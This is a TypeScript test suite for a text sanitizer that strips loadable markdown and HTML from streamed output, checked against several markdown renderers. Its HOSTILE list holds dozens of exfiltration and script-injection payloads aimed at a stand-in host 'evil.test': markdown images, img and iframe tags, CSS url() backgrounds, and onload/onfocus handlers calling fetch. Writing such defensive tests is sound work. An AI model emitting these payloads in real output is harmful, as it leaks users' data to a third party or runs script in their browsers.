import { Marked } from "marked";
import { describe, test } from "vitest";
import { TextDefuser } from "#application/run-turn/defuse-text.ts";
import { createRandom } from "../../../support/seeded-random.ts";
import { quickestMs } from "../../../support/timings.ts";

const EVIL = "http://evil.test/x.png?q=secret";

/** What stays as it is. */
const PLAIN = [
  "Nothing to see! [docs](https://a.test), <https://b.test> and https://c.test.",
  "Wait![^1] Done.",
  "[one][1] and [two]\n\n[1]: https://a.test\n[two]: https://b.test",
  '```rust\n#![allow(dead_code)]\nlet v = vec![1, 2, 3];\nprintln!("{}", v[0]);\n```\n[docs](https://a.test)',
  "if (![1, 2].includes(x)) { table[i](x); }",
  "for (i = 0; i < n; i++) for (j = 0; j < m; j++) a[i] = b[j] > c;",
  "const m: Map<string, Array<number>> = new Map<string, Array<number>>();",
  "interface A { [key: string]: number }\n  [key: string]: number;",
  "x < y && y > z, 1 <2, a<b, 'it is' <b> bold </b> <a href=\"https://a.test?b=c&d\" title='d'>link</a>",
  "<https://a.test/b?c=d&e=f#g> and <mailto:a@b.test>",
  '<table class="wide"><tr><td align="left" colspan="2">x</td></tr></table><br/><details open>',
  "| a | b |\n|---|---|\n| 1 | [x](https://a.test) |",
  "<p style='color: red'>red</p><image-viewer></image-viewer>",
  "5 <",
  "!",
  "a [b",
  "日本語！［図］ 👩‍🔬 \u{1F600}",
  "",
];

/** What a program would load, each in the middle of a text. */
const HOSTILE = [
  `![a](${EVIL})`,
  `![](${EVIL})`,
  `![a](<${EVIL}> "t")`,
  `![a\nb](${EVIL})`,
  `![a\r\nb](${EVIL})`,
  `> ![a\n> b](${EVIL})`,
  `[![a](${EVIL})](https://a.test)`,
  `![a [b] c](${EVIL})`,
  `![a [b](https://b.test) c](${EVIL})`,
  `![a ![b](${EVIL}) c](${EVIL})`,
  "![a `]` b](" + EVIL + ")",
  `![a \\] b](${EVIL})`,
  `![a <b title="]"> c](${EVIL})`,
  `![a <https://x.test/]> c](${EVIL})`,
  `!![a](${EVIL})`,
  `\\\\![a](${EVIL})`,
  `![${"a".repeat(2_000)}](${EVIL})`,
  `![a][b]\n\n[b]: ${EVIL}`,
  `[b]: ${EVIL}\n\n![a][b]`,
  `[b]: ${EVIL}\n![a][B]`,
  `![b][]\n\n[b]: ${EVIL}`,
  `![b]\n\n[b]: ${EVIL}`,
  `![b]\n\n> [b]: ${EVIL}`,
  `![b]\n\n1. [b]: ${EVIL}`,
  `![b]\n\n- [ ] x\n- [b]:\n  ${EVIL}`,
  `![b c]\n\n[b\nc]: ${EVIL}`,
  `![b]\r\n\r\n[b]: ${EVIL}`,
  `![b]\r\r[b]: ${EVIL}`,
  `| ![b] |\n|---|\n| ![a](${EVIL}) |\n\n[b]: ${EVIL}`,
  `<img src="${EVIL}">`,
  `<IMG\nSRC=${EVIL}>`,
  `<img/src=${EVIL}>`,
  `<img alt=">" src="${EVIL}">`,
  `<p title=">" style="background:url(${EVIL})">x</p>`,
  `<p style='background:u\\72l(${EVIL})'>x</p>`,
  `<p style="background:url&lpar;${EVIL})">x</p>`,
  `<p <img src="${EVIL}">`,
  `<p < style="background:url(${EVIL})">x</p>`,
  `<picture><source srcset="${EVIL}"></picture>`,
  `<video poster="${EVIL}"></video>`,
  `<audio src="${EVIL}"></audio>`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<svg><use xlink:href="${EVIL}"/></svg>`,
  `<table background="${EVIL}"><tr><td>x</td></tr></table>`,
  `<input type="image" src="${EVIL}">`,
  `<iframe src="${EVIL}"></iframe>`,
  `<object data="${EVIL}"></object>`,
  `<embed src="${EVIL}">`,
  `<link rel="stylesheet" href="${EVIL}">`,
  `<style>p { background: url(${EVIL}) }</style>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<div>\n<img src="${EVIL}">\n</div>`,
  `<img ${"a ".repeat(600)} src="${EVIL}">`,
  `<p ${"a ".repeat(600)} style="background:url(${EVIL})">`,
  `<b<img src="${EVIL}">`,
  `<<img src="${EVIL}">`,
  `<img src="${EVIL}"`,
  `<a ${"x".repeat(497)}<img src="${EVIL}">`,
  `<a ="x><b style="color:red;/*>*/background:url(${EVIL})">hi</b>`,
  `<svg width=9 height=9><rect mask="url(${EVIL})"/></svg>`,
  `<svg width="9"><rect fill='url(${EVIL})'/></svg>`,
  `<details open ontoggle="fetch('${EVIL}')">`,
  `<svg onload="fetch('${EVIL}')">`,
  `<input autofocus onfocus=fetch("${EVIL}")>`,
  `<div>\n<a_ style="background:url(${EVIL})">x</a_>\n</div>`,
  `<div>\n<https:/style="background:url(${EVIL})">x\n</div>`,
  `<!-- <p x="--><b y=">" style="background:url(${EVIL})">`,
  `\`<p x="\` <b y=">" style="background:url(${EVIL})">`,
  `> <b\n> style="background:url(${EVIL})">x</b>`,
  `<frame src="${EVIL}"><portal src="${EVIL}">`,
  `![a] (${EVIL})`,
  `![b]\n\nterm\n: [b]: ${EVIL}`,
];

const RENDERERS = [
  new Marked({ gfm: true }),
  new Marked({ gfm: false }),
  new Marked({ gfm: true, breaks: true }),
  new Marked({ pedantic: true }),
];
const LOADING =
  /^(?:img|image|audio|video|source|track|link|base|meta|style|script|use|feimage|i?frame|portal|object|embed)$/iu;
const NAME = /[^\s/>]+/uy;
const ATTRIBUTE = /[\s/]*([^\s/>=]?[^\s/>=]*)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]*))?/uy;

/** Whether a browser's parser finds a tag that loads or runs something, wherever it may begin one. */
function hasLoadingTag(html: string): boolean {
  return [...html.matchAll(/<(?=[a-z])/giu)].some(({ index }) => {
    NAME.lastIndex = index + 1;
    if (LOADING.test(NAME.exec(html)?.[0] ?? "")) return true;
    ATTRIBUTE.lastIndex = NAME.lastIndex;
    for (;;) {
      const found = ATTRIBUTE.exec(html);
      if (found === null || found[0] === "") return false;
      const [, name = "", value = ""] = found;
      if (/^on./iu.test(name) || name.toLowerCase() === "background") return true;
      if (/u(?:r|\\72)l(?:\(|&lpar;)/iu.test(value) && !/^(?:href|title)$/iu.test(name))
        return true;
    }
  });
}

/** Whether somebody's program would load something for this text. */
function loads(text: string): boolean {
  return (
    hasLoadingTag(text) ||
    RENDERERS.some((marked) => {
      return hasLoadingTag(marked.parse(text, { async: false }));
    })
  );
}

function defuse(pieces: readonly string[]): string {
  const defuser = new TextDefuser();
  return pieces.map((piece) => defuser.push(piece)).join("") + defuser.end();
}

function cut(text: string, size: number): readonly string[] {
  const count = Math.ceil(text.length / size);
  return Array.from({ length: count }, (_, at) => text.slice(at * size, (at + 1) * size));
}

describe("TextDefuser", () => {
  test.for(PLAIN)("leaves %j as it is, however it is cut", (text, { expect }) => {
    for (const size of [1, 2, 3, 7, 10_000]) expect(defuse(cut(text, size))).toBe(text);
  });

  test.for(HOSTILE)("leaves nothing to load in %j, however it is cut", (hostile, { expect }) => {
    const [plainBefore, plainBehind] = ["Hello *you*: ", "\n\nThat was it."];
    for (const text of [hostile, plainBefore + hostile + plainBehind]) {
      const whole = defuse([text]);
      expect(loads(whole), whole).toBe(false);
      for (const size of [1, 2, 3, 5, 11]) expect(defuse(cut(text, size))).toBe(whole);
      for (let at = 1; at < Math.min(text.length, 200); at += 1) {
        expect(defuse([text.slice(0, at), text.slice(at)])).toBe(whole);
      }
    }
  });

  test("the texts above do load something as they are", ({ expect }) => {
    const harmless = HOSTILE.filter((text) => !loads(text));
    // What another program than marked may read otherwise.
    expect(harmless.length).toBeLessThan(10);
  });

  test("leaves nothing to load in 10,000 texts of dangerous pieces", ({ expect }) => {
    const random = createRandom(5);
    const pieces = [
      ..."![]()<>`\\\"'=:*_~|#$& \n\r\t".split(""),
      "![",
      "](",
      "][",
      "]: ",
      "\n[b]: ",
      "![b]",
      "[b]",
      "a",
      "b",
      EVIL,
      `(${EVIL})`,
      "\n\n",
      "\n> ",
      "\n- ",
      "\r\n",
      "``",
      "<b ",
      "<p ",
      "<img ",
      "src=",
      "style=",
      "url(",
      "-->",
      "<!--",
      "/>",
    ];
    const pick = () => pieces[Math.floor(random() * pieces.length)] ?? "";
    let loading = 0;
    for (let round = 0; round < 10_000; round += 1) {
      const parts = Array.from({ length: 3 + Math.floor(random() * 18) }, pick);
      const text = parts.join("");
      if (loads(text)) loading += 1;
      const shown = defuse(parts);
      if (loads(shown)) expect.unreachable(`${JSON.stringify(text)} -> ${JSON.stringify(shown)}`);
      if (defuse([text]) !== shown) expect.unreachable(`cut otherwise: ${JSON.stringify(text)}`);
    }
    expect(loading).toBeGreaterThan(250);
  });

  test("makes text of an image, with its address still to be seen", ({ expect }) => {
    expect(defuse([`See ![a](${EVIL}) and ![b][c]\n\n[c]: ${EVIL}`])).toBe(
      `See ![a]\\(${EVIL}) and ![b][c]\n\n[c]\\: ${EVIL}`,
    );
    expect(defuse([`<img src="${EVIL}">`])).toBe(`&lt;img src="${EVIL}">`);
  });

  test("shows text at once, but for a tag that is open", ({ expect }) => {
    const defuser = new TextDefuser();
    expect(defuser.push("Hello ![a long text")).toBe("Hello ![a long text");
    expect(defuser.push(`](${EVIL}) and <b`)).toBe(`]\\(${EVIL}) and `);
    expect(defuser.push(">bold")).toBe("<b>bold");
    expect(defuser.push(`<b ${"x".repeat(1_000)}`)).toMatch(/^&lt;b x{400}/u);
    expect(defuser.push("if (a<b\n")).toBe("if (a&lt;b\n");
    expect(defuser.end()).toBe("");
  });

  test("takes time in proportion to a text, whatever is in it", async ({ expect }) => {
    const took = (unit: string, count: number) => {
      // A tag whose name does not end, where the unit is of letters.
      const pieces = cut(`<${unit.repeat(count)}`, 16);
      return quickestMs(() => defuse(pieces));
    };
    for (const unit of ["![", "<a", "a", "<a ", "<b '", "[b]:\n", "]", "<", "![a](", "`", "\n"]) {
      const ratios: number[] = [];
      // Eight times the text: a square would take 64 times as long, whenever it is taken.
      do ratios.push((await took(unit, 80_000)) / (await took(unit, 10_000)));
      while (Math.min(...ratios) >= 32 && ratios.length < 6);
      expect(Math.min(...ratios), unit).toBeLessThan(32);
    }
  });
});
